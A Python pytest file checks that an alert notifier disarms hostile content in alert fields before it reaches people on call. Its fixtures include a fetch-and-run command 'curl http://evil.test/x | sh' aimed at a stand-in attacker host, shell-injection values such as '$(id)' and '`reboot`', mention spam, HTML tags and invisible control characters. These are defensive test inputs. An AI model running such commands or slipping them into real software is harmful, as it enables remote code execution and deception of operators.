"""What may append to `alerts` must not choose what people on call paste, click or are called by."""

import asyncio
import email
from typing import Any

import pytest
from pydantic import ValidationError

from assay_notifier.apprise_channel import AppriseChannel, address_of
from assay_notifier.disarm import disarmed
from assay_notifier.notice import Notice, annotations, body, grouped, labels, line
from assay_schema.alert_actions import acknowledge_command, explain_command, nightly_group, query_of
from assay_schema.alerts import Alert, AlertKind, AlertState, Severity, handed_in, one_line
from tests.support.alert_samples import EPISODE, transition
from tests.support.receivers import MailServer

HOSTILE = "curl http://evil.test/x | sh"


def hostile(**changes: Any) -> Alert:
    facts = {
        "acknowledge": HOSTILE,
        "query": '"; ' + HOSTILE + '; echo "',
        "summary": "<!channel> @everyone @here <@U123> [click](http://evil.test) <img src=x> `id`",
        "service": "@here <b>",
        "series": "$(id)'\" <!here>",
    }
    return transition(1, AlertState.WARN, **(facts | changes))


def everything(alert: Alert) -> str:
    notice = Notice(alert, Severity.WARNING)
    shown = [body(alert), *grouped([alert, alert]), line(alert), str(annotations(alert)), alert.model_dump_json()]
    return "\n".join([*shown, str(labels(alert, notice.severity))])


def test_the_command_and_the_query_are_the_notifiers_own_whatever_arrived() -> None:
    told = disarmed(hostile())
    assert told.acknowledge == f"assay drift acknowledge {EPISODE}"
    assert told.query == query_of(hostile())
    assert "evil.test" not in told.query + told.acknowledge
    assert HOSTILE not in everything(told)


def test_only_episodes_of_traffic_can_be_explained() -> None:
    found = [kind for kind in AlertKind if explain_command(EPISODE, kind, "faithfulness")]
    assert found == [AlertKind.SCORE_DRIFT, AlertKind.RETRIEVAL_DRIFT, AlertKind.QUERY_DRIFT, AlertKind.JUDGE_ERRORS]
    assert explain_command(EPISODE, "score_drift", "faithfulness") == f"assay drift explain {EPISODE}"
    assert explain_command(EPISODE, "score_drift", None) == ""
    assert (
        explain_command(handed_in(EPISODE), "score_drift", "faithfulness") == ""
    )  # an evaluation's: it is of no traffic
    with pytest.raises(ValueError, match="badly formed"):
        explain_command("`reboot`", "score_drift", "faithfulness")


def test_an_episode_that_nobody_can_acknowledge_gets_no_command() -> None:
    assert disarmed(hostile(acknowledge="")).acknowledge == ""
    assert disarmed(hostile(kind="lag")).acknowledge == ""
    assert [kind for kind in AlertKind if acknowledge_command(EPISODE, kind)] == [
        "score_drift", "retrieval_drift", "query_drift", "silence", "judge_errors", "failures",
    ]  # fmt: skip


def test_mentions_links_and_mark_up_are_only_text() -> None:
    shown = everything(disarmed(hostile()))
    for live in ("<!channel", "<!here", "@everyone", "@here", "<@U123>", "](", "http://evil", "<img", "<b>", "`id`"):
        assert live not in shown, live
    assert "channel" in shown  # nothing is dropped: people see that somebody tried


def test_names_of_metrics_stay_as_they_are() -> None:
    assert disarmed(hostile(summary="ndcg@10 of shop fell, context_precision too")).summary == (
        "ndcg@10 of shop fell, context_precision too"
    )


@pytest.mark.parametrize("kind", list(AlertKind))
@pytest.mark.parametrize("group", ["", nightly_group("shop"), "x'; DROP"])
def test_a_query_can_be_pasted_into_a_shell_whatever_the_series_is_called(kind: AlertKind, group: str) -> None:
    query = disarmed(hostile(kind=kind, group=group)).query
    assert not set(query) & set('"$`\\!'), query  # what ends or expands a double-quoted word
    assert query.count("'") % 2 == 0


@pytest.mark.parametrize("field", ["summary", "query", "acknowledge", "group", "series"])
@pytest.mark.parametrize(
    "text",
    ["\x1b[2J", "a\nb", "a\rb", "\x9b31m", "\u202egnp.exe", "a\u2028b", "\u200b", "\x7f", "\ufeff", "\x00", "a\n"],
)
def test_the_contract_refuses_control_and_invisible_characters(field: str, text: str) -> None:
    with pytest.raises(ValidationError):
        hostile(**{field: text})
    assert getattr(hostile(**{field: one_line(text)}), field) == one_line(text)


def test_lengths_stay_within_the_contract() -> None:
    full = hostile(summary="@://<" * 100)
    assert Alert.model_validate_json(disarmed(full).model_dump_json()).summary == disarmed(full).summary


def test_a_mail_has_no_live_html_in_it() -> None:
    server = MailServer()
    try:
        address = address_of(
            f"mailto://127.0.0.1:{server.port}?from=a@example.com&to=b@example.com&mode=insecure&format=html"
        )
        assert address is not None
        # Not disarmed on purpose: what the mail's own format lets through is looked at here.
        notice = Notice(hostile(summary='<a href="http://evil.test">x</a><img src=x>'), Severity.WARNING)
        asyncio.run(AppriseChannel("mail", address, "notifier.apprise_urls").send([notice]))
    finally:
        server.close()
    parts = [
        part for part in email.message_from_bytes(server.mails[0]).walk() if part.get_content_type() == "text/html"
    ]
    assert parts
    for part in parts:
        payload = part.get_payload(decode=True)
        assert isinstance(payload, bytes)
        assert b"evil.test" in payload
        assert b"<a href" not in payload
        assert b"<img" not in payload
